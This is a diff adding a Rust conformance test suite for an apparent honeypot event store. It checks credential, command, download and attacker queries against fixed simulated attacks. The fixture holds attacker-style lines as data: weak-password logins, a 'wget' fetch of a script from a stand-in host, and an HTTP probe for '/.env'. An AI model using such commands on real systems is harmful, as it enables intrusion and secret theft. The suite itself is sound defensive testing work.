@@ -1,0 +1,760 @@
+//! The query conformance suite: every backend that answers [`EventQueries`] loads the
+//! same fixed events through its [`Sink`] and must return exactly the rows written out
+//! here (SQLite's answers are the reference). Enabled by the `testing` feature.
+//!
+//! ```no_run
+//! # async fn demo() -> Result<(), hpti_store::StoreError> {
+//! use hpti_store::{SqliteOptions, SqliteStore};
+//! let dir = std::env::temp_dir().join("hpti-conformance-demo");
+//! let store = SqliteStore::open(SqliteOptions::new(dir.join("hpti.db"))).await?;
+//! hpti_store::testing::query_conformance(&store, || async {}).await;
+//! # Ok(()) }
+//! ```
+
+use std::future::Future;
+use std::net::IpAddr;
+
+use hpti_core::event::Timestamp;
+use hpti_core::event::{Asn, AuthMethod, Enrichment, Event, EventId, EventKind, Geo, Protocol};
+use hpti_core::sink::Sink;
+
+use crate::error::StoreError;
+use crate::query::{
+    AttackerSummary, CommandCount, CredentialCount, Cursor, DownloadSummary, EventFilter,
+    EventQueries, SessionSummary, Window,
+};
+
+/// 2026-01-01T00:00:00Z: the fixture's events are at fixed times, so expected rows
+/// can be written out.
+pub const FIXTURE_BASE_MICROS: i64 = 1_767_225_600_000_000;
+
+/// The first attacker: one SSH session, enriched (NL, AS64500).
+pub const ADDRESS_A: &str = "203.0.113.10";
+/// The second attacker: a Telnet and an SSH session, no enrichment.
+pub const ADDRESS_B: &str = "198.51.100.20";
+/// The third: one HTTP request from a log, no session.
+pub const ADDRESS_C: &str = "2001:db8::7";
+
+/// The file both attackers downloaded.
+pub const SHA_SHARED: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
+/// The file only the second attacker downloaded.
+pub const SHA_SECOND: &str = "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae";
+
+fn at(seconds: i64) -> Timestamp {
+    Timestamp::from_micros(FIXTURE_BASE_MICROS + seconds * 1_000_000)
+}
+
+fn addr(text: &str) -> IpAddr {
+    text.parse().unwrap_or(IpAddr::from([0, 0, 0, 0]))
+}
+
+fn login(username: &str, password: &str, success: bool) -> EventKind {
+    EventKind::LoginAttempt {
+        username: username.into(),
+        password: Some(password.into()),
+        key_type: None,
+        key_fingerprint: None,
+        method: AuthMethod::Password,
+        success,
+    }
+}
+
+fn command(line: &str) -> EventKind {
+    EventKind::CommandInput {
+        command: line.into(),
+    }
+}
+
+fn download(url: &str, sha256: &str, size: u64) -> EventKind {
+    EventKind::FileDownload {
+        url: url.into(),
+        sha256: Some(sha256.into()),
+        size: Some(size),
+        error: None,
+    }
+}
+
+/// The enrichment every event of [`ADDRESS_A`] carries.
+pub fn enrichment_a() -> Enrichment {
+    Enrichment {
+        geo: Some(Geo {
+            country_code: Some("NL".into()),
+            country: Some("Netherlands".into()),
+            city: None,
+            latitude: Some(52.3824),
+            longitude: Some(4.8995),
+        }),
+        asn: Some(Asn {
+            number: 64500,
+            organization: Some("Example Hosting".into()),
+        }),
+        tags: vec!["known-scanner".into()],
+        ..Enrichment::default()
+    }
+}
+
+/// The fixed events of the suite: three addresses, three sessions, logins, commands
+/// (two at the same instant, to test ordering ties), downloads and an HTTP request.
+pub fn fixture() -> Vec<Event> {
+    let (a, b, c) = (addr(ADDRESS_A), addr(ADDRESS_B), addr(ADDRESS_C));
+    fn session(
+        ip: IpAddr,
+        sensor: &'static str,
+        protocol: Protocol,
+        session: &'static str,
+        port: u16,
+    ) -> impl Fn(i64, EventKind) -> Event {
+        move |seconds, kind| {
+            Event::new(sensor, protocol.clone(), ip, kind)
+                .with_session(session)
+                .with_source_port(port)
+                .with_destination(IpAddr::from([192, 0, 2, 1]), 22)
+                .with_time(at(seconds))
+        }
+    }
+    let a1 = session(a, "ssh", Protocol::Ssh, "a1", 40001);
+    let b1 = session(b, "telnet", Protocol::Telnet, "b1", 40002);
+    let b2 = session(b, "ssh", Protocol::Ssh, "b2", 40003);
+    let mut events = vec![
+        a1(0, EventKind::SessionStarted),
+        a1(
+            1,
+            EventKind::ClientVersion {
+                version: "SSH-2.0-libssh_0.9.6".into(),
+            },
+        ),
+        a1(2, login("root", "123456", false)),
+        a1(3, login("root", "admin", true)),
+        a1(4, command("uname -a")),
+        a1(5, command("wget http://198.51.100.9/x.sh")),
+        a1(6, download("http://198.51.100.9/x.sh", SHA_SHARED, 4)),
+        a1(
+            7,
+            EventKind::SessionClosed {
+                duration_ms: 7000,
+                recording: None,
+            },
+        ),
+    ];
+    for event in &mut events {
+        event.enrichment = enrichment_a();
+    }
+    events.extend([
+        b1(10, EventKind::SessionStarted),
+        b1(11, login("root", "123456", false)),
+        b1(12, login("admin", "admin", false)),
+        b1(
+            13,
+            EventKind::SessionClosed {
+                duration_ms: 3000,
+                recording: None,
+            },
+        ),
+        b2(20, EventKind::SessionStarted),
+        b2(21, login("root", "123456", true)),
+        b2(22, command("uname -a")),
+        b2(22, command("cat /proc/cpuinfo")),
+        b2(23, download("http://203.0.113.99/x.sh", SHA_SHARED, 4)),
+        b2(24, download("http://203.0.113.99/y", SHA_SECOND, 10)),
+        Event::new(
+            "web-log",
+            Protocol::Http,
+            c,
+            EventKind::HttpRequest {
+                method: "GET".into(),
+                uri: "/.env".into(),
+                host: Some("192.0.2.1".into()),
+                user_agent: Some("curl/8.5.0".into()),
+                status: Some(404),
+            },
+        )
+        .with_time(at(30)),
+    ]);
+    // Ids fixed by content, so that a re-run writes the same events.
+    for (i, event) in events.iter_mut().enumerate() {
+        event.id = EventId::derived(event.time, &[b"query-conformance", &i.to_le_bytes()]);
+    }
+    events
+}
+
+fn session_summary(session: &str) -> SessionSummary {
+    match session {
+        "a1" => SessionSummary {
+            session: "a1".into(),
+            sensor: "ssh".into(),
+            protocol: "ssh".into(),
+            src_ip: addr(ADDRESS_A),
+            started: at(0),
+            last_seen: at(7),
+            duration_ms: Some(7000),
+            client_version: Some("SSH-2.0-libssh_0.9.6".into()),
+            login_attempts: 2,
+            logged_in: true,
+            commands: 2,
+            downloads: 1,
+        },
+        "b1" => SessionSummary {
+            session: "b1".into(),
+            sensor: "telnet".into(),
+            protocol: "telnet".into(),
+            src_ip: addr(ADDRESS_B),
+            started: at(10),
+            last_seen: at(13),
+            duration_ms: Some(3000),
+            client_version: None,
+            login_attempts: 2,
+            logged_in: false,
+            commands: 0,
+            downloads: 0,
+        },
+        _ => SessionSummary {
+            session: "b2".into(),
+            sensor: "ssh".into(),
+            protocol: "ssh".into(),
+            src_ip: addr(ADDRESS_B),
+            started: at(20),
+            last_seen: at(24),
+            duration_ms: None,
+            client_version: None,
+            login_attempts: 1,
+            logged_in: true,
+            commands: 2,
+            downloads: 2,
+        },
+    }
+}
+
+fn credential(
+    username: &str,
+    password: &str,
+    attempts: u64,
+    successes: u64,
+    sources: u64,
+) -> CredentialCount {
+    CredentialCount {
+        username: username.into(),
+        password: Some(password.into()),
+        attempts,
+        successes,
+        sources,
+    }
+}
+
+fn command_count(line: &str, count: u64, sources: u64) -> CommandCount {
+    CommandCount {
+        command: line.into(),
+        count,
+        sources,
+    }
+}
+
+fn download_summary(
+    sha256: &str,
+    count: u64,
+    first: i64,
+    last: i64,
+    size: u64,
+    src_ips: &[&str],
+    urls: &[&str],
+) -> DownloadSummary {
+    DownloadSummary {
+        sha256: sha256.into(),
+        count,
+        first_seen: at(first),
+        last_seen: at(last),
+        size: Some(size),
+        src_ips: src_ips.iter().map(|s| (*s).to_owned()).collect(),
+        urls: urls.iter().map(|s| (*s).to_owned()).collect(),
+    }
+}
+
+#[allow(clippy::too_many_arguments)]
+fn attacker_summary(
+    ip: &str,
+    events: u64,
+    sessions: u64,
+    login_attempts: u64,
+    commands: u64,
+    first: i64,
+    last: i64,
+    geo: Option<(&str, u32)>,
+) -> AttackerSummary {
+    AttackerSummary {
+        src_ip: addr(ip),
+        events,
+        sessions,
+        login_attempts,
+        commands,
+        first_seen: at(first),
+        last_seen: at(last),
+        country: geo.map(|(country, _)| country.to_owned()),
+        asn: geo.map(|(_, asn)| asn),
+    }
+}
+
+/// The ids of `events` that pass `keep`, newest first by (time, id): what
+/// [`EventQueries::events`] must list.
+fn expected_ids(events: &[Event], keep: impl Fn(&Event) -> bool) -> Vec<EventId> {
+    let mut kept: Vec<&Event> = events.iter().filter(|e| keep(e)).collect();
+    kept.sort_by(|x, y| (y.time, y.id).cmp(&(x.time, x.id)));
+    kept.into_iter().map(|e| e.id).collect()
+}
+
+/// Follows the cursor through every page; panics if a page is larger than asked.
+async fn all_pages<Q: EventQueries + ?Sized>(
+    store: &Q,
+    window: Window,
+    filter: &EventFilter,
+) -> Vec<Event> {
+    let mut events = Vec::new();
+    let mut cursor: Option<Cursor> = None;
+    for _ in 0..1000 {
+        let page = store.events(window, filter, cursor.as_ref()).await;
+        let page = match page {
+            Ok(page) => page,
+            Err(err) => panic!("events({window:?}, {filter:?}) failed: {err}"),
+        };
+        assert!(
+            page.events.len() <= window.limit as usize,
+            "a page holds at most `limit` events"
+        );
+        events.extend(page.events);
+        match page.next {
+            Some(next) => cursor = Some(next),
+            None => return events,
+        }
+    }
+    panic!("events() never returned a last page");
+}
+
+fn is_invalid<T: std::fmt::Debug>(result: Result<T, StoreError>) -> bool {
+    matches!(result, Err(StoreError::InvalidInput(_)))
+}
+
+fn is_not_found<T: std::fmt::Debug>(result: Result<T, StoreError>) -> bool {
+    matches!(result, Err(StoreError::NotFound(_)))
+}
+
+/// Runs the query conformance suite on an empty store that is both the sink and the
+/// query side. `settle` is awaited after the fixture is written, for a backend that
+/// makes writes visible to queries asynchronously (a refresh); SQLite needs nothing.
+///
+/// # Panics
+/// On the first wrong row, with a message naming the query (this is a test helper).
+pub async fn query_conformance<Q, F, Fut>(store: &Q, settle: F)
+where
+    Q: Sink + EventQueries + ?Sized,
+    F: Fn() -> Fut,
+    Fut: Future<Output = ()>,
+{
+    assert_eq!(
+        store.count_events().await.ok(),
+        Some(0),
+        "the suite needs an empty store"
+    );
+    let events = fixture();
+    let refs: Vec<&Event> = events.iter().collect();
+    let report = store.write(&refs).await;
+    assert!(
+        matches!(&report, Ok(r) if r.rejected.is_empty() && r.retry.is_empty()),
+        "the fixture must be stored whole: {report:?}"
+    );
+    settle().await;
+    assert_eq!(store.count_events().await.ok(), Some(events.len() as u64));
+
+    let all = Window::default().limit(100);
+    // Half-open: from the first Telnet login to just before the last download.
+    let window = Window::default().since(at(10)).until(at(24)).limit(100);
+    let (a, b) = (addr(ADDRESS_A), addr(ADDRESS_B));
+
+    // Rankings over all time and over a window.
+    assert_eq!(
+        store.credentials(all).await.ok(),
+        Some(vec![
+            credential("root", "123456", 3, 1, 2),
+            credential("admin", "admin", 1, 0, 1),
+            credential("root", "admin", 1, 1, 1),
+        ]),
+        "credentials, all time"
+    );
+    assert_eq!(
+        store.credentials(window).await.ok(),
+        Some(vec![
+            credential("root", "123456", 2, 1, 1),
+            credential("admin", "admin", 1, 0, 1),
+        ]),
+        "credentials in [since, until)"
+    );
+    assert_eq!(
+        store.credentials(all.limit(1)).await.ok(),
+        Some(vec![credential("root", "123456", 3, 1, 2)]),
+        "credentials, limit 1"
+    );
+    assert_eq!(
+        store.commands(all).await.ok(),
+        Some(vec![
+            command_count("uname -a", 2, 2),
+            command_count("cat /proc/cpuinfo", 1, 1),
+            command_count("wget http://198.51.100.9/x.sh", 1, 1),
+        ]),
+        "commands, all time"
+    );
+    assert_eq!(
+        store.commands(window).await.ok(),
+        Some(vec![
+            command_count("cat /proc/cpuinfo", 1, 1),
+            command_count("uname -a", 1, 1),
+        ]),
+        "commands in [since, until)"
+    );
+    assert_eq!(
+        store.downloads(all).await.ok(),
+        Some(vec![
+            download_summary(
+                SHA_SHARED,
+                2,
+                6,
+                23,
+                4,
+                &[ADDRESS_B, ADDRESS_A],
+                &["http://198.51.100.9/x.sh", "http://203.0.113.99/x.sh"],
+            ),
+            download_summary(
+                SHA_SECOND,
+                1,
+                24,
+                24,
+                10,
+                &[ADDRESS_B],
+                &["http://203.0.113.99/y"]
+            ),
+        ]),
+        "downloads, all time"
+    );
+    assert_eq!(
+        store.downloads(window).await.ok(),
+        Some(vec![download_summary(
+            SHA_SHARED,
+            1,
+            23,
+            23,
+            4,
+            &[ADDRESS_B],
+            &["http://203.0.113.99/x.sh"],
+        )]),
+        "downloads in [since, until)"
+    );
+    assert_eq!(
+        store.attackers(all).await.ok(),
+        Some(vec![
+            attacker_summary(ADDRESS_B, 10, 2, 3, 2, 10, 24, None),
+            attacker_summary(ADDRESS_A, 8, 1, 2, 2, 0, 7, Some(("NL", 64500))),
+            attacker_summary(ADDRESS_C, 1, 0, 0, 0, 30, 30, None),
+        ]),
+        "attackers, all time"
+    );
+    assert_eq!(
+        store.attackers(window).await.ok(),
+        Some(vec![attacker_summary(ADDRESS_B, 9, 2, 3, 2, 10, 23, None)]),
+        "attackers in [since, until)"
+    );
+    assert_eq!(
+        store.sessions(all).await.ok(),
+        Some(vec![
+            session_summary("b2"),
+            session_summary("b1"),
+            session_summary("a1"),
+        ]),
+        "sessions, all time, the most recently opened first"
+    );
+    assert_eq!(
+        store.sessions(window).await.ok(),
+        Some(vec![session_summary("b2"), session_summary("b1")]),
+        "sessions with activity in [since, until)"
+    );
+
+    // Events: every filter, read back whole, in pages.
+    type Case = (
+        &'static str,
+        Window,
+        EventFilter,
+        Box<dyn Fn(&Event) -> bool>,
+    );
+    let cases: Vec<Case> = vec![
+        ("all", all, EventFilter::default(), Box::new(|_| true)),
+        (
+            "a window",
+            window,
+            EventFilter::default(),
+            Box::new(|e| e.time >= at(10) && e.time < at(24)),
+        ),
+        (
+            "src_ip",
+            all,
+            EventFilter::default().src_ip(b),
+            Box::new(move |e| e.src_ip == b),
+        ),
+        (
+            "session",
+            all,
+            EventFilter::default().session("b2"),
+            Box::new(|e| e.session.as_deref() == Some("b2")),
+        ),
+        (
+            "sensor",
+            all,
+            EventFilter::default().sensor("telnet"),
+            Box::new(|e| e.sensor == "telnet"),
+        ),
+        (
+            "protocol",
+            all,
+            EventFilter::default().protocol("http"),
+            Box::new(|e| e.protocol == Protocol::Http),
+        ),
+        (
+            "kind",
+            all,
+            EventFilter::default().kind("login.attempt"),
+            Box::new(|e| e.kind.name() == "login.attempt"),
+        ),
+        (
+            "kind and address in a window",
+            window,
+            EventFilter::default().kind("login.attempt").src_ip(b),
+            Box::new(move |e| {
+                e.kind.name() == "login.attempt"
+                    && e.src_ip == b
+                    && e.time >= at(10)
+                    && e.time < at(24)
+            }),
+        ),
+        (
+            "nothing matches",
+            all,
+            EventFilter::default().src_ip(a).sensor("telnet"),
+            Box::new(|_| false),
+        ),
+    ];
+    for (name, window, filter, keep) in &cases {
+        let expected = expected_ids(&events, keep);
+        for limit in [100, 4, 1] {
+            let got = all_pages(store, window.limit(limit), filter).await;
+            let ids: Vec<EventId> = got.iter().map(|e| e.id).collect();
+            assert_eq!(
+                ids, expected,
+                "events ({name}), {limit} a page, newest first"
+            );
+            for event in &got {
+                let written = events.iter().find(|e| e.id == event.id);
+                assert_eq!(Some(event), written, "events ({name}) read back as written");
+            }
+        }
+    }
+    let first = store
+        .events(all.limit(19), &EventFilter::default(), None)
+        .await;
+    assert!(
+        matches!(&first, Ok(page) if page.events.len() == 19 && page.next.is_none()),
+        "a page that holds every event has no next cursor: {first:?}"
+    );
+
+    // One event, one session, one address.
+    for event in &events {
+        assert_eq!(
+            store.event(event.id).await.ok().as_ref(),
+            Some(event),
+            "event by id"
+        );
+    }
+    assert!(
+        is_not_found(store.event(EventId::new()).await),
+        "an unknown event id is not found"
+    );
+    for session in ["a1", "b1", "b2"] {
+        let detail = store.session(session).await;
+        let detail = match detail {
+            Ok(detail) => detail,
+            Err(err) => panic!("session {session}: {err}"),
+        };
+        assert_eq!(
+            detail.summary,
+            session_summary(session),
+            "session {session}'s summary"
+        );
+        let mut timeline: Vec<&Event> = events
+            .iter()
+            .filter(|e| e.session.as_deref() == Some(session))
+            .collect();
+        timeline.sort_by_key(|e| (e.time, e.id));
+        let got: Vec<&Event> = detail.events.iter().collect();
+        assert_eq!(got, timeline, "session {session}'s timeline, oldest first");
+        assert!(!detail.truncated);
+    }
+    assert!(
+        is_not_found(store.session("no-such-session").await),
+        "an unknown session is not found"
+    );
+
+    let detail = match store.attacker(a).await {
+        Ok(detail) => detail,
+        Err(err) => panic!("attacker {a}: {err}"),
+    };
+    assert_eq!(
+        detail.summary,
+        attacker_summary(ADDRESS_A, 8, 1, 2, 2, 0, 7, Some(("NL", 64500))),
+        "attacker A's totals"
+    );
+    assert_eq!(
+        detail.enrichments,
+        vec![enrichment_a()],
+        "attacker A's enrichment"
+    );
+    assert_eq!(
+        detail.sessions,
+        vec![session_summary("a1")],
+        "attacker A's sessions"
+    );
+    assert_eq!(
+        detail.credentials,
+        vec![
+            credential("root", "123456", 1, 0, 1),
+            credential("root", "admin", 1, 1, 1)
+        ],
+        "attacker A's credentials"
+    );
+    assert_eq!(
+        detail.commands,
+        vec![
+            command_count("uname -a", 1, 1),
+            command_count("wget http://198.51.100.9/x.sh", 1, 1),
+        ],
+        "attacker A's commands"
+    );
+    assert_eq!(
+        detail.downloads,
+        vec![download_summary(
+            SHA_SHARED,
+            1,
+            6,
+            6,
+            4,
+            &[ADDRESS_A],
+            &["http://198.51.100.9/x.sh"]
+        )],
+        "attacker A's downloads"
+    );
+    let detail = match store.attacker(b).await {
+        Ok(detail) => detail,
+        Err(err) => panic!("attacker {b}: {err}"),
+    };
+    assert_eq!(
+        detail.summary,
+        attacker_summary(ADDRESS_B, 10, 2, 3, 2, 10, 24, None)
+    );
+    assert!(
+        detail.enrichments.is_empty(),
+        "attacker B has no enrichment"
+    );
+    assert_eq!(
+        detail.sessions,
+        vec![session_summary("b2"), session_summary("b1")]
+    );
+    assert_eq!(
+        detail.credentials,
+        vec![
+            credential("root", "123456", 2, 1, 1),
+            credential("admin", "admin", 1, 0, 1)
+        ],
+        "attacker B's credentials"
+    );
+    assert_eq!(
+        detail.commands,
+        vec![
+            command_count("cat /proc/cpuinfo", 1, 1),
+            command_count("uname -a", 1, 1)
+        ],
+        "attacker B's commands"
+    );
+    assert_eq!(
+        detail.downloads,
+        vec![
+            download_summary(
+                SHA_SECOND,
+                1,
+                24,
+                24,
+                10,
+                &[ADDRESS_B],
+                &["http://203.0.113.99/y"]
+            ),
+            download_summary(
+                SHA_SHARED,
+                1,
+                23,
+                23,
+                4,
+                &[ADDRESS_B],
+                &["http://203.0.113.99/x.sh"]
+            ),
+        ],
+        "attacker B's downloads, the most recent first among equals"
+    );
+    assert!(
+        is_not_found(store.attacker(addr("192.0.2.250")).await),
+        "an address never seen is not found"
+    );
+
+    // Wrong questions are refused the same way everywhere.
+    let backwards = Window::default().since(at(20)).until(at(10));
+    assert!(
+        is_invalid(store.credentials(backwards).await),
+        "until before since"
+    );
+    assert!(
+        is_invalid(store.commands(backwards).await),
+        "until before since"
+    );
+    assert!(
+        is_invalid(store.downloads(backwards).await),
+        "until before since"
+    );
+    assert!(
+        is_invalid(store.attackers(backwards).await),
+        "until before since"
+    );
+    assert!(
+        is_invalid(store.sessions(backwards).await),
+        "until before since"
+    );
+    assert!(
+        is_invalid(store.events(backwards, &EventFilter::default(), None).await),
+        "until before since"
+    );
+    assert!(
+        is_invalid(store.credentials(all.limit(0)).await),
+        "a limit of 0"
+    );
+    for bad in ["", "garbage", "12.zz", "1767225600000000.0123"] {
+        assert!(
+            is_invalid(
+                store
+                    .events(
+                        all,
+                        &EventFilter::default(),
+                        Some(&Cursor::from_string(bad))
+                    )
+                    .await
+            ),
+            "cursor {bad:?} is malformed"
+        );
+    }
+    assert!(
+        is_invalid(
+            store
+                .events(all, &EventFilter::default().kind("login.attempts"), None)
+                .await
+        ),
+        "an unknown kind is refused, not answered with nothing"
+    );
+}
